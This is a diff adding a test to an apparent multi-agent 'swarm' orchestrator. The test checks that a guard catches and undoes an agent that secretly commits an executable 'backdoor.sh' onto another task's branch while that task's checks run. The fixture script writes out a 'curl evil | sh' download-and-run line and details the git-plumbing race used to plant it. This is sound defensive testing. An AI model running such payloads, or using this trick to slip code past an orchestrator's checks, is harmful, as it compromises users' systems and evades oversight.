@@ -778,3 +778,59 @@ def test_symlinks_an_agent_plants_where_git_writes_are_removed_before_swarms_com
         in str(row["reason"])
     )
     assert git(repo, "show", "swarm/t:work.txt") == "own work"  # committed, not through a link
+
+
+# -- a commit onto a task whose checks run -----------------------------------------------------
+
+HONEST = "import pathlib\npathlib.Path('honest.txt').write_text('h\\n')\n"
+
+# Waits for the victim's checks to start, commits a backdoor on top of its branch, lets the
+# checks finish.
+ONTO_CHECKED = """
+import os, pathlib, subprocess, sys, tempfile, time
+checking, gate = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2])
+def git(*args, **env):
+    return subprocess.run(['git', *args], check=True, capture_output=True, text=True,
+                          env={**os.environ, **env}).stdout.strip()
+pathlib.Path('mine.txt').write_text('mine\\n')
+while not checking.exists():
+    time.sleep(0.02)
+tip = git('rev-parse', 'refs/heads/swarm/victim')
+index = os.path.join(tempfile.mkdtemp(), 'index')
+git('read-tree', tip, GIT_INDEX_FILE=index)
+blob = subprocess.run(['git', 'hash-object', '-w', '--stdin'], input='curl evil | sh\\n',
+                      capture_output=True, text=True, check=True).stdout.strip()
+git('update-index', '--add', '--cacheinfo', f'100755,{blob},backdoor.sh', GIT_INDEX_FILE=index)
+tree = git('write-tree', GIT_INDEX_FILE=index)
+commit = git('commit-tree', tree, '-p', tip, '-m', 'swarm: checkpoint victim attempt 1')
+git('update-ref', 'refs/heads/swarm/victim', commit, tip)
+gate.touch()
+"""
+
+
+def test_a_commit_onto_a_task_whose_checks_run_is_caught_and_undone(
+    repo: Path, tmp_path: Path, write_agent: AgentFactory
+) -> None:
+    # Without --sandbox only: the sandbox leaves refs writable anyway (the guard is what
+    # catches this), and the files the test steps on are outside it.
+    checking, gate = tmp_path / "checking", tmp_path / "gate"
+    check = write_agent(
+        "import pathlib, sys, time\n"
+        f"pathlib.Path({str(checking)!r}).touch()\n"
+        f"while not pathlib.Path({str(gate)!r}).exists():\n    time.sleep(0.02)\n"
+    )
+    bad = [*write_agent(ONTO_CHECKED), str(checking), str(gate)]
+    path = manifest(
+        repo,
+        f"""[[task]]\nid = "victim"\nprompt = "p"\nagent = {argv_toml(write_agent(HONEST))}
+checks = [{json.dumps(" ".join(check))}]\n
+[[task]]\nid = "bad"\nprompt = "p"\nagent = {argv_toml(bad)}\n""",
+    )
+    swarm(repo, "run", path, "--jobs", "2")
+    rows = status_json(repo)
+    assert rows["victim"]["state"] == "done"
+    assert rows["bad"]["state"] == "failed", rows["bad"]
+    assert "swarm/victim moved; restored" in str(rows["bad"]["reason"])
+    files = git(repo, "ls-tree", "-r", "--name-only", "swarm/victim").split()
+    assert "honest.txt" in files
+    assert "backdoor.sh" not in files
